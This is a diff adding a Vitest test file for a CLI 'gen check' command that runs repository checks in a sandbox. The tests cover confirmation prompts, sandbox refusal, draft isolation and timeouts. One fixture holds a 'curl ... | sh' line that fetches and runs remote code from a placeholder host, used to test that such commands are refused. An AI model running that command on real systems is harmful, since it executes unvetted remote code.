@@ -1,0 +1,157 @@
+import { randomInt } from 'node:crypto';
+import { mkdir, readdir, symlink } from 'node:fs/promises';
+import { join } from 'node:path';
+import { describe, expect, it } from 'vitest';
+import { findProgram, findSandbox } from '../engine/checks/sandbox.js';
+import { isRunning } from '../engine/checks/testing/running-processes.js';
+import { gen, start, type TerminalOptions } from './testing/terminal.js';
+import { createProject, FEATURE_ID, writeProjectFile } from './testing/workspace.js';
+
+const EDGE = 'intent_requirements';
+const SUBJECT = `${FEATURE_ID}#${EDGE}`;
+const EDGE_FILE = `.ai-workspace/graph/edges/${EDGE}.yml`;
+const sandbox = await findSandbox(process.env.PATH);
+const reason = sandbox.kind === 'none' ? ` (skipped: ${sandbox.says})` : '';
+
+const edgeFile = (...checks: string[]) =>
+  `edge: "intent→requirements"\nchecklist:\n${checks.map((check) => `  - {${check}}\n`).join('')}`;
+const check = (name: string, fields: string) =>
+  `name: ${name}, type: deterministic, criterion: "It works", required: true, ${fields}`;
+const HAS_DOCS = check('has_docs', 'command: "test -f docs/login.md"');
+
+/** The default profile of the feature runs no deterministic checks. */
+const PROFILE = `profile: minimal
+graph: {include: ["intent→requirements"]}
+evaluators: {default: [agent, deterministic]}
+`;
+
+async function projectWith(...checks: string[]): Promise<TerminalOptions & { cwd: string }> {
+  const terminal = await createProject({
+    [EDGE_FILE]: edgeFile(...checks),
+    '.ai-workspace/profiles/minimal.yml': PROFILE,
+  });
+  return { ...terminal, env: { ...terminal.env, PATH: process.env.PATH ?? '' } };
+}
+
+const json = async (terminal: TerminalOptions, ...argv: string[]) => {
+  const { out, code, err } = await gen(terminal, 'check', SUBJECT, ...argv, '--json');
+  return {
+    code,
+    err,
+    reply: JSON.parse(out) as { code?: string; checks: Record<string, unknown>[]; drafts: string[] },
+  };
+};
+
+describe.skipIf(sandbox.kind === 'none')(`gen check${reason}`, { timeout: 120_000 }, () => {
+  it('asks before it runs a command of the repository, and remembers the answer', async () => {
+    const project = await projectWith(check('fine', 'command: "test -f specification/INTENT.md"'));
+    const refused = await gen(project, 'check', SUBJECT);
+    expect(refused.code).toBe(3);
+    expect(refused.err).toContain('fine: test -f specification/INTENT.md');
+    expect(refused.err).toContain(`gen check '${SUBJECT}' --yes`);
+    const declined = await gen({ ...project, isStdinTty: true, stdin: '\n' }, 'check', SUBJECT);
+    expect(declined.code).toBe(3);
+    expect(declined.err).toContain('Run 1 command of this repository? [y/N]:');
+    const agreed = await gen({ ...project, isStdinTty: true, stdin: 'y\n' }, 'check', SUBJECT);
+    expect(agreed.out).toMatch(/fine +pass/);
+    expect(agreed.code).toBe(0);
+    expect(await gen(project, 'check', SUBJECT)).toMatchObject({ code: 0, err: '' });
+  });
+
+  it('asks again when a command has changed', async () => {
+    const project = await projectWith(check('fine', 'command: "true"'));
+    expect((await gen(project, 'check', SUBJECT, '--yes')).code).toBe(0);
+    await writeProjectFile(project.cwd, EDGE_FILE, edgeFile(check('fine', 'command: "true", shell: true')));
+    const { code, reply } = await json(project);
+    expect([code, reply.code]).toEqual([3, 'COMMAND_NOT_CONFIRMED']);
+  });
+
+  it('runs the checks on the drafts of the claim, and leaves the project as it is', async () => {
+    const project = await projectWith(HAS_DOCS, check('writes', 'command: "touch docs/new.md"'));
+    expect((await json(project, '--yes')).reply.checks).toMatchObject([
+      { result: 'fail' },
+      { result: 'fail' },
+    ]);
+    const claimed = await gen(project, 'task', 'claim', SUBJECT, '--role', 'architect', '--json');
+    const { draft_folder } = JSON.parse(claimed.out) as { draft_folder: string };
+    expect((await json(project)).reply.drafts).toEqual([]);
+    await writeProjectFile(project.cwd, `${draft_folder}/docs/login.md`, 'People log in.\n');
+    const { code, reply } = await json(project);
+    expect(reply).toMatchObject({ drafts: ['docs/login.md'], is_sandboxed: true });
+    expect(reply.checks).toMatchObject([{ result: 'pass' }, { result: 'pass' }]);
+    expect(code).toBe(0);
+    expect(await readdir(project.cwd)).not.toContain('docs');
+  });
+
+  it('shows the last lines of a failing check, and exits with 1', async () => {
+    const failing = check('fails', 'command: "echo first; echo the reason >&2; exit 4", shell: true');
+    const project = await projectWith(failing, HAS_DOCS, check('fine', 'command: "true"'));
+    const { out, code } = await gen(project, 'check', SUBJECT, '--yes');
+    expect(code).toBe(1);
+    expect(out).toContain('the project as it is');
+    expect(out).toMatch(/fails +fail +[\d.]+ s +It ended with exit code 4/);
+    expect(out).toContain('    the reason');
+    expect(await gen(project, 'check', SUBJECT, 'fine')).toMatchObject({ code: 0 });
+  });
+
+  it('refuses a command that only a shell understands, and judges by the report', async () => {
+    const report = 'report: {format: junit, path: r.xml}';
+    const line = `command: "echo '<testsuite/>' > r.xml", shell: true`;
+    const project = await projectWith(
+      check('installs', 'command: "curl -s https://x.example/i | sh"'),
+      check('reports', `${line}, ${report}`),
+      check('slow', 'command: "sleep 1000", timeout_seconds: 1'),
+    );
+    const { code, reply } = await json(project, '--yes');
+    expect(code).toBe(1);
+    expect(reply.checks).toMatchObject([
+      {
+        name: 'installs',
+        result: 'error',
+        says: expect.stringContaining('shell: true'),
+        command_sha256: null,
+      },
+      { name: 'reports', result: 'fail', says: expect.stringContaining('No test was run') },
+      { name: 'slow', result: 'fail', says: expect.stringContaining('1 s') },
+    ]);
+  });
+
+  it('ends its commands when it is stopped', async () => {
+    const seconds = `1${randomInt(1e8, 1e9)}`;
+    const project = await projectWith(check('sleeps', `command: "sleep ${seconds}"`));
+    const running = start(project, 'check', SUBJECT, '--yes');
+    await expect.poll(() => isRunning(`sleep\0${seconds}`), { timeout: 60_000 }).toBe(true);
+    running.stop('SIGINT');
+    expect((await running.ended).code).toBe(130);
+    expect(isRunning(seconds)).toBe(false);
+  });
+});
+
+describe('gen check without bubblewrap', { timeout: 120_000 }, () => {
+  it('refuses with exit code 3, unless it may run without a sandbox', async () => {
+    const project = await projectWith(check('fine', 'command: "true"'));
+    const bin = join(project.cwd, '.bin');
+    await mkdir(bin);
+    for (const name of ['sh', 'true', 'git', 'prlimit', 'setpriv'])
+      await symlink(findProgram(name, process.env.PATH) ?? '/nonexistent', join(bin, name));
+    const bare = { ...project, env: { ...project.env, PATH: bin } };
+    const { code, reply } = await json(bare, '--yes');
+    expect([code, reply.code]).toEqual([3, 'NO_SANDBOX']);
+    const allowed = await json(bare, '--unsandboxed');
+    expect(allowed.code).toBe(0);
+    expect(allowed.reply).toMatchObject({ is_sandboxed: false, checks: [{ result: 'pass' }] });
+    expect(allowed.err).toContain('Without a sandbox');
+  });
+
+  it('does not run an unconfirmed command without a sandbox either', async () => {
+    const project = await projectWith(check('fine', 'command: "true"'));
+    expect(await gen(project, 'check', SUBJECT, '--unsandboxed')).toMatchObject({ code: 3, out: '' });
+  });
+
+  it('names the checks that there are', async () => {
+    const project = await projectWith(HAS_DOCS);
+    const unknown = await gen(project, 'check', SUBJECT, 'has_doc');
+    expect(unknown).toMatchObject({ code: 2, err: expect.stringContaining('It has: has_docs.') });
+    expect((await gen(project, 'check', 'A-001')).code).toBe(2);
+  });
+});
